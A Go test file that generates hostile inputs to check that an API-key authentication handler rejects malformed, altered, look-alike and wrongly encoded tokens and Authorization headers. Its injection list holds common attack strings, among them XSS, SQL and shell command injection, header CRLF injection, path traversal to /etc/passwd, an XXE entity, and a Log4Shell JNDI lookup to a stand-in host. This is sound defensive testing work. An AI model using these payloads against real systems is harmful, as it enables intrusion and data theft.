package apikeyhttp_test

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"html"
	"math/rand/v2"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"unicode/utf16"
)

// This file lists what an attacker may try. "K" stands for a good token.

// hostileClass is texts in the place of a token. Wrong ones hold neither
// spaces nor commas, so that each is refused as one wrong key.
type hostileClass struct {
	class string
	wrong bool
	texts []string
}

func hostileTexts(k *hostileKeys) []hostileClass {
	token, secret := k.token, k.pass[:32]
	id := k.user[len("ak_"):]
	random := rand.New(rand.NewPCG(4, 4))
	letters := func(n int) string {
		text := make([]byte, n)
		for i := range text {
			text[i] = digits[random.IntN(len(digits))]
		}
		return string(text)
	}
	sum := uint64(crc32.ChecksumIEEE([]byte(token[:len(token)-6])))

	var changed, swapped, flipped, cut, alike, percent, secrets, unknown, sums []string
	for i := range len(token) {
		before, c, after := token[:i], token[i], token[i+1:]
		changed = append(changed, before+string(other(c))+after)
		percent = append(percent, before+fmt.Sprintf("%%%02X", c)+after)
		alike = append(alike, before+string(rune(c)+0xfee0)+after) // full width
		if i > 0 && token[i-1] != c {
			swapped = append(swapped, token[:i-1]+string(c)+token[i-1:i]+after)
		}
		if swap := swapCase(c); swap != c {
			flipped = append(flipped, before+string(swap)+after)
		}
		cut = append(cut, token[:i], token[i:]+"0", before+after, before+"0"+token[i:])
	}
	for _, pair := range [][2]string{{"k", "\u212a"}, {"s", "\u017f"}, {"a", "\u0430"}, {"e", "\u0435"}, {"o", "\u03bf"}, {"_", "\u203f"}, {"0", "\u041e"}, {"1", "l"}, {"l", "1"}, {"I", "l"}, {"O", "0"}} {
		if strings.Contains(token, pair[0]) {
			alike = append(alike, strings.Replace(token, pair[0], pair[1], 1), strings.ReplaceAll(token, pair[0], pair[1]))
		}
	}
	for range 30 {
		secrets = append(secrets, withChecksum(k.user+"_"+letters(32)))
		unknown = append(unknown, withChecksum("ak_"+letters(16)+"_"+secret))
	}
	for i := range uint64(12) {
		// More than 32 bits, which are the same in 32.
		sums = append(sums, token[:len(token)-6]+checksumOf(sum+(i+1)<<32), token[:len(token)-6]+checksumOf(sum^1<<i))
	}
	for _, end := range []string{"000000", "zzzzzz", "ZZZZZZ", "------", "0", ""} {
		sums = append(sums, token[:len(token)-6]+end)
	}

	var prefixes []string
	for _, prefix := range []string{
		"", "_", "AK", "Ak", "aK", "a", "k", "ka", "akk", "aak", "ak_ak", "ak_", "_ak", "ak0", "1ak", "live", "test", "sk", "pk", "ak_live",
		"shop", "a_k", "a-k", "ak.", "bk", "al", "\u0430k", strings.Repeat("a", 20), strings.Repeat("a", 21), strings.Repeat("ak_", 6) + "ak", id,
	} {
		prefixes = append(prefixes, withChecksum(prefix+"_"+id+"_"+secret), prefix+token[2:])
	}

	var spaces []string
	for _, space := range []string{
		" ", "\t", "  ", " \t", "\u00a0", "\u1680", "\u180e", "\u2000", "\u2003", "\u2007", "\u2009", "\u200a", "\u200b", "\u200d", "\u2028", "\u2029",
		"\u202f", "\u205f", "\u2060", "\u3000", "\ufeff", "\u0085", "\xa0", "\x85", "\v", "\f", "+", "%20", "%09", "\\t", "&nbsp;",
	} {
		for _, at := range []int{3, 20} {
			spaces = append(spaces, token[:at]+space+token[at:])
		}
		if strings.Trim(space, " \t") != "" { // those net/http takes away
			spaces = append(spaces, token+space, space+token)
		}
	}
	// Header lines that go on: net/http makes one space of the break.
	spaces = append(spaces, token[:10]+"\r\n "+token[10:], token[:11]+"\r\n\t"+token[11:], token[:12]+" \r\n  "+token[12:], token[:13]+"\n "+token[13:])

	var controls, invalid []string
	for at := range 3 {
		for c := 0x80; c < 0xa0; c++ {
			controls = append(controls, token[:5*at]+string(rune(c))+token[5*at:], token[:9*at]+string([]byte{byte(c)})+token[9*at:])
		}
	}
	for c := range 32 {
		controls = append(controls, token[:5]+string(rune(c))+token[5:])
	}
	controls = append(controls, token+"\x7f", token[:9]+"\x7f"+token[9:], token+"\x1b[2J", token+"\u009b2J", token+"\u202e", token+"\u2066")
	for _, wrong := range []string{
		"\xff", "\xfe", "\xc0\x80", "\xc0\xaf", "\xc1\xbf", "\xe0\x80\x80", "\xe0\x9f\xbf", "\xed\xa0\x80", "\xed\xbf\xbf", "\xed\xa0\xbd\xed\xb8\x80",
		"\xf0\x80\x80\x80", "\xf4\x90\x80\x80", "\xf5\x80\x80\x80", "\xf8\x88\x80\x80\x80", "\xe2\x82", "\xf0\x9f\x98", "\xc3", "\xbf", "\xad", "\xef\xbf\xbe", "\xc1\xa1", "\xc1\x9f",
	} {
		invalid = append(invalid, wrong, token[:7]+wrong+token[7:], token[:19]+wrong+token[20:])
	}

	var long []string
	for _, n := range []int{77, 78, 100, 128, 255, 256, 257, 511, 512, 1000, 1023, 1024, 1025, 2047, 2048, 2900, 3000, 4000, 4095, 4096, 4097, 5000, 8191, 8192, 16000, 40000} {
		long = append(long, (token + strings.Repeat("A", n))[:n], (strings.Repeat("ak_", n) + token)[:n])
	}
	for n := range 5 {
		long = append(long, strings.Repeat(token, n+2), token[:19]+strings.Repeat("_", n+2)+token[20:])
	}

	fill := strings.NewReplacer("K", token, "USER", k.user, "PASS", k.pass, "BAD", k.bad[0])
	each := func(patterns ...string) []string {
		for i := range patterns {
			patterns[i] = fill.Replace(patterns[i])
		}
		return patterns
	}
	lists := each("K,", ",K", ",", ",,", "K,K", "K, K", "K ,K", "K;", ";K", "K;K", "K; q=1", "K;q=1", `"K"`, `'K'`, "`K`", `"K`, `K"`, "<K>", "[K]", "{K}", "(K)", `["K"]`,
		`{"token":"K"}`, `{"key": "K"}`, "token=K", `token="K"`, "key=K", "api_key=K", "access_token=K", "K|K", "K/K", "K&K", "K:K", "K=", "K==", "K,BAD", "BAD,K", "BAD;K", "BAD K", "K BAD", "=K", ":K:", `\K`, `K\`, "*", "K*", "%", "$K", "#K", "@K", "K?", "K.", "K-", "K~")
	missing := each("", "_", "__", "___", "ak", "ak_", "ak__", "USER", "USER_", "_PASS", "PASS", "USER_"+secret, "USER__PASS", "USERPASS", "USER:PASS", "USER.PASS", "USER-PASS", "USER/PASS",
		"ak_PASS", "ak__PASS", id, id+"_PASS", "_"+id+"_PASS", "ak"+id+"_PASS", "ak"+id+"PASS", secret, "ak_"+id+"_"+k.pass[32:], "USER_PASS_PASS", "USER_USER", "PASS_USER", "null", "undefined", "nil", "None", "NaN", "0", "-1", "true", "[object Object]")
	injections := slices.Clone(hostileInjections)
	for _, injection := range hostileInjections {
		injections = append(injections, k.bad[1]+injection)
	}
	var texts []string
	for range 20 {
		n := 1 + random.IntN(100)
		text := make([]byte, n)
		for i := range text {
			text[i] = byte('-' + random.IntN('~'-'-'+1)) // behind the comma
		}
		texts = append(texts, string(text), letters(n), "ak_"+letters(16)+"_"+letters(38))
	}
	return []hostileClass{
		{"one character changed", true, changed}, {"characters swapped", true, swapped}, {"case changed", true, flipped}, {"cut or extended", false, cut},
		{"look-alikes", true, alike}, {"percent-encoded", true, append(percent, encodedAll(token, "%%%02x"), url.QueryEscape(url.QueryEscape(token+"%")))},
		{"other prefix", true, prefixes}, {"wrong secret, sum right", true, secrets}, {"unknown key, sum right", true, unknown}, {"wrong checksum", true, sums},
		{"what the store holds", true, k.stored}, {"white space", false, spaces}, {"control characters", false, controls}, {"not UTF-8", false, invalid},
		{"overlong", true, long}, {"lists and quotes", false, lists}, {"parts missing", false, missing}, {"injections", false, injections},
		{"other encodings", false, hostileEncodings(token)}, {"random", true, texts},
	}
}

var hostileInjections = []string{
	"<script>alert(1)</script>", `"><img/src=x/onerror=alert(1)>`, "javascript:alert(1)//", "%0d%0aSet-Cookie:%20a=b", "%0aINFO:%20admin%20logged%20in", `\r\nSet-Cookie:a=b`, "\nlevel=INFO", "\rlevel=INFO",
	"\r\nlevel=INFO", "%s%s%s%n", "%x%x%x%x", "%!d(string=x)", "{{.Key}}", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%=7*7%>", "' OR '1'='1", "';DROP TABLE keys;--", `" OR ""="`, "1;SELECT pg_sleep(9)",
	"' UNION SELECT digest FROM credentials--", "*)(uid=*))(|(uid=*", "../../../../etc/passwd", `..\..\windows\win.ini`, "/dev/null\x00.png", "$(id)", "`id`", ";id", "|id", "&&id", "\x1b[31mred", "\u009b31mred", "\u202etxt.exe", "<!DOCTYPE/x[<!ENTITY/e/SYSTEM'file:///etc/passwd'>]>",
	`{"$gt":""}`, `{"__proto__":{"admin":true}}`, "=cmd|'/C calc'!A0", "msg=\"a\" level=ERROR", `","level":"ERROR`, "[secret]", "0x41414141", "\ufffd", "😀", "ﷺ",
}

// hostileSchemes are whole values of a header. B stands for good credentials
// of Basic.
func hostileSchemes(k *hostileKeys) []string {
	fill := strings.NewReplacer("K", k.token, "B64", base64Of(k.user+":"+k.pass))
	values := []string{
		"K", "Bearer", "bearer ", "Basic", "BASIC", "Bearer:K", "Bearer: K", "Bearer :K", "Bearer=K", "Bearer\tK", "Bearer\t K", "BearerK", "Bearer\u00a0K", "Bearer\u2003K", "Bearer\xa0K", "Bea rer K", "Bearer Bearer K", "Bearer Basic B64", "Bearer B64", "Basic K", "Basic Bearer K", "Basic Basic B64",
		"Bearers K", "Bear K", "earer K", "xBearer K", "Token K", "token=K", "ApiKey K", "Api-Key K", "X-API-Key K", "X-API-Key: K", "Key K", "Digest K", "Digest username=\"K\"", "Negotiate K", "NTLM K", "AWS4-HMAC-SHA256 K", "HOBA K", "Mutual K", "vapid K", "SCRAM-SHA-256 K", "DPoP K", "GNAP K", "PrivateToken K", "OAuth K", "MAC id=K", `Bearer realm="api", K`,
		`Bearer realm="api" K`, "Bearer,K", "Bearer, K", "Bearer, Bearer K", "Basic B64, Bearer K", "Bearer K, Basic B64", ", Bearer K", "BasicB64", "Basic:B64", "Basic=B64", "Ba\u017fic B64", "\u0412earer K", "\uff22earer K", "B\u0435arer K", "Bearer;K", "Bearer/K", "Bearer|K", "\"Bearer\" K", "'Bearer' K", "(Bearer) K", "Bearer(K)", "Bearer\x00K", "Bearer\vK", "K Bearer", "K:Bearer", "B64 Basic", "Authorization: Bearer K", "null", "Bearer null", "Bearer undefined",
		"Bearer%20K", "Bearer+K", "Basic%20B64", "\xffBearer K", "\ufeffBearer K", "Bearer \ufeffK", "bearer\r\n\tx K", "Basic B64 x", "basic B64,",
	}
	for i := range values {
		values[i] = fill.Replace(values[i])
	}
	return values
}

// hostilePairs are what may stand after Basic.
func hostilePairs(k *hostileKeys) []string {
	right := base64Of(k.user + ":" + k.pass)
	trailing := func(text string, by byte) string { // other bits that are not decoded
		encoded := []byte(base64Of(text))
		encoded[strings.IndexByte(string(encoded), '=')-1] += by
		return string(encoded)
	}
	values := []string{
		strings.TrimRight(right, "="), right + "=", right + "==", right + "===", "=" + right, right[:20] + "=" + right[20:], right[:20] + "==" + right[20:], right[:4] + "\t" + right[4:], right[:8] + " " + right[8:], right[:12] + "\r\n " + right[12:],
		right + ",", right + "," + right, right + " " + right, right + right, right[1:], right[:len(right)-4], right + "\u00a0", right + "\x00", right + "\v", right[:16] + "\n " + right[16:], right[:5] + "-" + right[5:], right[:5] + "_" + right[5:], right[:5] + "%" + right[5:], right[:5] + "." + right[5:],
		strings.ToUpper(right), strings.ToLower(right), url.QueryEscape(right + "="), `"` + right + `"`, "'" + right + "'", k.user + ":" + k.pass, k.token, trailing(k.user+":"+k.pass, 1), base64Of(right), base64.URLEncoding.EncodeToString([]byte("??>>" + k.user + ":" + k.pass)),
		base64.RawURLEncoding.EncodeToString([]byte(k.user + ":" + k.pass)), hex.EncodeToString([]byte(k.user + ":" + k.pass)), base32.StdEncoding.EncodeToString([]byte(k.user + ":" + k.pass)),
	}
	user, pass, token := k.user, k.pass, k.token
	for _, pair := range []string{
		"", ":", "::", user, pass, token, user + ":", ":" + pass, token + ":", ":" + token, "x:" + token, token + ":x", user + ":" + token, token + ":" + pass, token + ":" + token, pass + ":" + user, user + "::" + pass, user + ":" + pass + ":", ":" + user + ":" + pass, user + ":" + pass + ":x",
		user + ": " + pass, user + " :" + pass, user + ":" + pass + " ", user + ":" + pass + "\n", user + ":" + pass + "\r\n", user + ":" + pass + "\x00", "\x00" + user + ":" + pass, "\ufeff" + user + ":" + pass, user + "\t:" + pass, user + "_:" + pass, user + ":_" + pass, strings.Replace(token, "_", ":", 1), strings.ReplaceAll(token, "_", ":"),
		"ak:" + pass, user[3:] + ":" + pass, strings.ToUpper(user) + ":" + pass, user + ":" + strings.ToUpper(pass), user + ":" + pass[:32], user + ":" + pass[1:], user + "%3A" + pass, user + "\uff1a" + pass, user + "=" + pass, user + ";" + pass, user + "/" + pass, "realm/" + user + ":" + pass, user + "@example.com:" + pass, "api:" + token, "bearer:" + token,
		"x-oauth-basic:" + token, token + ":x-oauth-basic", "token:" + token, "admin:admin", "root:", "a:b",
	} {
		values = append(values, base64Of(pair))
	}
	return values
}

// hostileEncodings writes a token in other ways.
func hostileEncodings(token string) []string {
	bytesOf := []byte(token)
	quoted, _ := json.Marshal([]string{token})
	var utf16le, utf16be []byte
	for _, unit := range utf16.Encode([]rune(token)) {
		utf16le, utf16be = append(utf16le, byte(unit), byte(unit>>8)), append(utf16be, byte(unit>>8), byte(unit))
	}
	reversed := slices.Clone(bytesOf)
	slices.Reverse(reversed)
	rot13 := strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case 'A' <= r && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, token)
	return []string{
		base64.StdEncoding.EncodeToString(bytesOf), base64.RawStdEncoding.EncodeToString(bytesOf), base64.URLEncoding.EncodeToString(bytesOf) + "_", base64Of(base64Of(token)), base32.StdEncoding.EncodeToString(bytesOf), base32.HexEncoding.EncodeToString(bytesOf),
		hex.EncodeToString(bytesOf), strings.ToUpper(hex.EncodeToString(bytesOf)), "0x" + hex.EncodeToString(bytesOf), rot13, string(reversed), string(quoted), encodedAll(token, `\u%04x`), encodedAll(token, `\x%02x`), encodedAll(token, "&#%d;"), encodedAll(token, "&#x%x;"), encodedAll(token, "=%02X"), encodedAll(token, "%d."),
		html.EscapeString("<" + token + ">"), strconv.Quote(token), "data:text/plain," + token, "=?utf-8?q?" + token + "?=", "utf-8''" + token, string(utf16le), string(utf16be), fmt.Sprintf("%x", crc32.ChecksumIEEE(bytesOf)), strings.ToUpper(token), strings.ToLower(token), "hex:" + token, "eyJhbGciOiJub25lIn0." + base64Of(token) + ".", "xn--" + token, strings.ReplaceAll(token, "_", "-"), strings.ReplaceAll(token, "_", "%5F"), strings.ReplaceAll(token, "_", "\\_"), strings.Join(strings.Split(token, ""), "-"),
	}
}

func encodedAll(text, format string) string {
	var all strings.Builder
	for i := range len(text) {
		fmt.Fprintf(&all, format, text[i])
	}
	return all.String()
}

func swapCase(c byte) byte {
	switch {
	case 'a' <= c && c <= 'z':
		return c - 'a' + 'A'
	case 'A' <= c && c <= 'Z':
		return c - 'A' + 'a'
	}
	return c
}
